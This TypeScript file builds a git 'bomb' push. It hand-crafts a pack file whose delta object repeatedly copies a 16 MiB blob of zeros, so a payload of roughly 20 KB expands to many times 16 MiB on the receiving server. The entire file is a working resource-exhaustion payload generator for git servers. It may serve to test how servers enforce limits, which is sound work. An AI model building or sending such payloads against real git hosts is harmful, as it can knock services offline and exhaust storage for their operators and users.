import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";

const BLOB = 3;
const REF_DELTA = 7;
/** the most that one instruction of a difference copies (pack-format(5)) */
const COPY_BYTES = 0xffffff;

/** Type and size of an object in a pack: four bits of size, then seven a byte. */
function objectHead(type: number, size: number): Buffer {
  const bytes = [];
  let rest = Math.floor(size / 16);
  bytes.push((type << 4) | (size & 15) | (rest > 0 ? 128 : 0));
  for (; rest > 0; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | (rest > 127 ? 128 : 0));
  return Buffer.from(bytes);
}

function varint(value: number): Buffer {
  const bytes = [];
  let rest = value;
  do {
    const more = rest > 127;
    bytes.push((rest % 128) | (more ? 128 : 0));
    rest = Math.floor(rest / 128);
  } while (rest > 0);
  return Buffer.from(bytes);
}

/**
 * buildBombPush: a push of one file, sent as a difference that copies the same 16 MiB of zeros `copies` times over. It is
 * some 20 KB long and means `copies` × 16 MiB.
 */
export function buildBombPush(copies: number): Buffer {
  const base = Buffer.alloc(COPY_BYTES);
  const sha = createHash("sha1").update(`blob ${base.length}\0`).update(base).digest();
  // copy from offset 0 (no bytes of it), size in three bytes
  const copy = Buffer.from([0b1111_0000, 0xff, 0xff, 0xff]);
  const delta = Buffer.concat([
    varint(base.length),
    varint(COPY_BYTES * copies),
    ...Array.from({ length: copies }, () => copy),
  ]);
  const head = Buffer.alloc(12);
  head.write("PACK");
  head.writeUInt32BE(2, 4);
  head.writeUInt32BE(2, 8);
  const pack = Buffer.concat([
    head,
    objectHead(BLOB, base.length),
    deflateSync(base),
    objectHead(REF_DELTA, delta.length),
    sha,
    deflateSync(delta),
  ]);
  const line = `${"0".repeat(40)} ${sha.toString("hex")} refs/heads/bomb\0report-status side-band-64k`;
  const command = Buffer.from(`${(line.length + 4).toString(16).padStart(4, "0")}${line}0000`);
  return Buffer.concat([command, pack, createHash("sha1").update(pack).digest()]);
}
